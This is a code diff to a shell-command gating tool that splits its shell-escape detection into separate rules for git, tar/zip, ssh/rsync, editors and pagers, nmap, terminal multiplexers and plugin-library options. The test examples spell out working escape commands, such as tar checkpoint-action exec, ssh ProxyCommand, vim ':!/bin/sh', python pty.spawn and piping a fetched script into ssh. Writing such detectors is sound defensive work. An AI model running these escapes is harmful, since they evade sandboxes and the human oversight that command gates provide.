@@ -17,6 +17,7 @@ from gatesh.rater.builtin._base import (
     Rule,
     S,
     Severity,
+    heads,
 )
 from gatesh.reading._hosts import ssh_split
 from gatesh.vocab.hosts import is_loopback
@@ -212,51 +213,105 @@ def ssh_loopback(c: Cmd) -> MatchResult:
     return Hit(detail=f"ssh {host.text} {' '.join(w.text for w in rest)}".rstrip())
 
 
-def escape_options(c: Cmd) -> MatchResult:
-    h = c.head
-    if h == "git":
-        vals = c.opt_values("-c", "--config-env")
-        if any(_GIT_ESCAPE.match(v) for v in vals):
-            return Hit(detail="git -c sets a command git will run")
-        if any(a.startswith("--exec-path=") for a in c.args):
-            return Hit(detail="git --exec-path runs programs from a chosen folder")
+# The options that make an ordinary program run another one, one function per hazard (each its
+# own rule id, so explain and the audit log name the one that matched).
+
+
+def git_runs_program(c: Cmd) -> MatchResult:
+    """git -c KEY=VALUE for a key git runs as a command, or --exec-path to a chosen folder."""
+    if c.head != "git":
         return None
+    vals = c.opt_values("-c", "--config-env")
+    if any(_GIT_ESCAPE.match(v) for v in vals):
+        return Hit(detail="git -c sets a command git will run")
+    if any(a.startswith("--exec-path=") for a in c.args):
+        return Hit(detail="git --exec-path runs programs from a chosen folder")
+    return None
+
+
+def archiver_runs_program(c: Cmd) -> MatchResult:
+    h = c.head
     if h in ("tar", "gtar", "bsdtar"):
-        if any(a.startswith(("--checkpoint-action=exec", "--to-command", "--use-compress-program", "--rsh-command", "--info-script", "--new-volume-script")) for a in c.args) or c.has("-I", "-F"):
+        if any(a.startswith(("--checkpoint-action=exec", "--to-command", "--use-compress-program", "--rsh-command",
+                             "--info-script", "--new-volume-script")) for a in c.args) or c.has("-I", "-F"):
             return Hit(detail="tar is told to run a program")
         return None
     if h == "zip" and (c.has("-TT", "--unzip-command") or ("-T" in c.flags and "-TT" in c.args)):
         return Hit(detail="zip is told to run a test command")
-    if h in ("ssh", "scp", "sftp", "check_by_ssh", "autossh") and re.search(r"proxycommand|localcommand|permitlocalcommand", c.low):
+    return None
+
+
+def ssh_local_command(c: Cmd) -> MatchResult:
+    h = c.head
+    if h in ("ssh", "scp", "sftp", "check_by_ssh", "autossh") and re.search(
+            r"proxycommand|localcommand|permitlocalcommand", c.low):
         return Hit(detail=f"{h} -o ProxyCommand/LocalCommand runs a local command")
+    if h == "rsync" and any(re.search(r"(?<![\w.-])(?:ba|da|z|k|c|tc)?sh(?![\w.-])", v) for v in c.opt_values("-e", "--rsh")):
+        return Hit(detail="rsync -e runs a shell")
+    return None
+
+
+def editor_pager_command(c: Cmd) -> MatchResult:
+    h = c.head
     if h in ("vi", "vim", "nvim", "ex", "view", "vimdiff", "rvim"):
         cmds = c.opt_values("-c", "--cmd") + [a[1:] for a in c.args if a.startswith("+")]
-        if any(re.search(r"!|\bsh(?:ell)?\b|terminal|\bpy(?:thon)?3?\b|\blua\b|\bperl\b|\bruby\b|system\(", x) for x in cmds):
+        if any(re.search(r"!|\bsh(?:ell)?\b|terminal|\bpy(?:thon)?3?\b|\blua\b|\bperl\b|\bruby\b|system\(", x)
+               for x in cmds):
             return Hit(detail=f"{h} runs a shell command at start-up")
         return None
     if h in ("less", "more", "man", "most", "pg") and any(a.startswith(("+!", "-H", "!")) for a in c.args):
         return Hit(detail=f"{h} is told to run a command")
-    if h in ("rsync",) and any("sh" in v or "bash" in v for v in c.opt_values("-e", "--rsh")):
-        return Hit(detail="rsync -e runs a shell")
-    if h in ("nmap",) and (c.has("--interactive") or any(a.startswith("--script") for a in c.args)):
+    return None
+
+
+def nmap_script(c: Cmd) -> MatchResult:
+    if c.head == "nmap" and (c.has("--interactive") or any(a.startswith("--script") for a in c.args)):
         return Hit(detail="nmap scripts can run arbitrary code")
-    if h in ("script",) and not c.has("-c", "--command"):
+    return None
+
+
+_MULTIPLEXER_VERBS: Final = frozenset({"new", "new-session", "new-window", "split-window", "send-keys", "send",
+                                       "respawn-pane", "attach", "a", "attach-session"})
+
+
+def hidden_terminal(c: Cmd) -> MatchResult:
+    """A terminal inside a terminal: what is typed there never reaches the gate."""
+    h = c.head
+    if h == "script" and not c.has("-c", "--command"):
         return Hit(detail="script starts an unrecorded interactive shell")
-    if h in ("screen", "tmux", "byobu", "zellij", "dtach", "abduco") and (not c.pos or c.has("-S") or c.sub(0) in ("new", "new-session", "new-window", "split-window", "send-keys", "send", "respawn-pane", "attach", "a", "attach-session")):
+    if h in ("screen", "tmux", "byobu", "zellij", "dtach", "abduco") and not c.has(
+            "-ls", "-list", "-v", "-V", "--version", "-h", "--help") and (
+            not c.pos or c.has("-S") or c.sub(0) in _MULTIPLEXER_VERBS):
         return Hit(detail=f"{h} starts a shell the gate cannot see into")
-    if h in ("expect",) and re.search(r"spawn\s+\S*sh\b|interact", c.low):
+    if h == "expect" and re.search(r"spawn\s+\S*sh\b|interact", c.low):
         return Hit(detail="expect spawns an interactive shell")
+    return None
+
+
+def program_option(c: Cmd) -> MatchResult:
+    """``--OPTION=/path/program`` for an option whose value a program runs (hooks, helpers, shells)."""
+    h = c.head
     for a in c.args:
         if _ESCAPE_OPTS.match(a) and ("sh" in a or "/" in a.split("=", 1)[-1]) and ("=" in a):
             val = a.split("=", 1)[1]
             if SHELL_PATH_RE.search(val) or val.endswith(".so") or ("/" in val and h not in ("git",)):
                 return Hit(detail=f"{h} {a.split('=', 1)[0]} runs a chosen program")
+    return None
+
+
+_LIBRARY_VALUE: Final = re.compile(r"(?:^|[,:=])(?:ladspa|lv2|frei0r)=(?:file=)?\S*|(?:^|[,:])file=\S+\.so\b", re.I)
+
+
+def library_option(c: Cmd) -> MatchResult:
+    h = c.head
+    if any(_LIBRARY_VALUE.search(a) for a in c.args):
+        return Hit(detail=f"{h} loads a plugin library from a chosen file")
     for v in c.opt_values("--engine", "-engine", "--default-auth", "--plugin-dir"):
         if ".so" in v or "/" in v:
             return Hit(detail=f"{h} loads a library")
     if h == "ssh-keygen" and c.has("-D", "-K") and ".so" in c.low:
         return Hit(detail="ssh-keygen loads a PKCS#11 library")
-    if h in ("ldconfig",) and c.has("-f"):
+    if h == "ldconfig" and c.has("-f"):
         return Hit(detail="ldconfig uses a chosen library path list")
     return None
 
@@ -304,12 +359,35 @@ RULES: tuple[Rule, ...] = (
                    "ssh localhost sh -s < run.sh", "curl -s x.example/s | ssh localhost"),
          counter=("ssh localhost uptime", "ssh build.example.com", "ssh localhost <<< 'ls'",
                   "ssh localhost bash -c ls")),
-    Rule("escape.options", A, "{detail}, a known way to escape to a shell.", escape_options,
+    Rule("escape.git-command", A, "{detail}, a known way to escape to a shell.", git_runs_program, heads=heads("git"),
+         examples=("git -c core.pager='sh -c x' log", "git -c core.sshCommand=/tmp/x fetch", "git --exec-path=/tmp/x status"),
+         counter=("git -c user.name=x commit -m y", "git log")),
+    Rule("escape.archiver-command", A, "{detail}, a known way to escape to a shell.", archiver_runs_program,
+         heads=heads("tar", "gtar", "bsdtar", "zip"),
          examples=("tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh", "zip x.zip f -T -TT 'sh #'",
-                   "git -c core.pager='sh -c x' log", "vim -c ':!/bin/sh'", "ssh -o ProxyCommand=';sh 0<&2 1>&2' x",
-                   "script", "screen", "curl --engine /tmp/lib.so x", "npm --script-shell=/tmp/x.sh run build"),
-         counter=("tar -czf a.tgz src", "git -c user.name=x commit -m y", "vim file.txt", "ssh host uptime",
-                  "script -c 'make' build.log", "tmux ls")),
+                   "tar -I /tmp/x -cf a.tar f"),
+         counter=("tar -czf a.tgz src", "zip -r a.zip src")),
+    Rule("escape.ssh-local-command", A, "{detail}, a known way to escape to a shell.", ssh_local_command,
+         heads=heads("ssh", "scp", "sftp", "check_by_ssh", "autossh", "rsync"),
+         examples=("ssh -o ProxyCommand=';sh 0<&2 1>&2' x", "rsync -e 'sh -c \"sh 0<&2 1>&2\"' 127.0.0.1:/dev/null"),
+         counter=("ssh host uptime", "rsync -e ssh a host:b")),
+    Rule("escape.editor-command", A, "{detail}, a known way to escape to a shell.", editor_pager_command,
+         heads=heads("vi", "vim", "nvim", "ex", "view", "vimdiff", "rvim", "less", "more", "man", "most", "pg"),
+         examples=("vim -c ':!/bin/sh'", "vim +'!sh'", "less +!sh f"), counter=("vim file.txt", "less +G log.txt")),
+    Rule("escape.nmap-script", A, "{detail}, a known way to escape to a shell.", nmap_script, heads=heads("nmap"),
+         examples=("nmap --script=/tmp/x.nse localhost", "nmap --interactive"), counter=("nmap -sV localhost",)),
+    Rule("escape.hidden-terminal", A, "{detail}, a known way to escape to a shell.", hidden_terminal,
+         heads=heads("script", "screen", "tmux", "byobu", "zellij", "dtach", "abduco", "expect"),
+         examples=("script", "screen", "tmux new -s x", "expect -c 'spawn sh; interact'"),
+         counter=("script -c 'make' build.log", "tmux ls", "screen -ls")),
+    Rule("escape.program-option", A, "{detail}, a known way to escape to a shell.", program_option,
+         examples=("npm --script-shell=/tmp/x.sh run build", "certbot --pre-hook=/tmp/x.sh renew",
+                   "mysql --pager=/bin/sh"),
+         counter=("npm run build", "certbot renew")),
+    Rule("escape.library-option", A, "{detail}, loading code into a program the gate cannot see.", library_option,
+         examples=("curl --engine /tmp/lib.so x", "ssh-keygen -D /tmp/lib.so", "ldconfig -f /tmp/ld.conf",
+                   "ffmpeg -f lavfi -i anullsrc -af ladspa=file=/tmp/lib.so out.wav"),
+         counter=("openssl engine -t", "ssh-keygen -t ed25519", "ldconfig")),
     Rule("escape.interpreter", A, "Inline code makes {detail}, escaping the gate.", interpreter_escape,
          examples=("python -c 'import pty; pty.spawn(\"/bin/sh\")'", "perl -e 'exec \"/bin/sh\";'",
                    "ruby -e 'exec \"/bin/sh\"'", "lua -e 'os.execute(\"/bin/sh\")'", "php -r 'system(\"/bin/sh -i\");'",
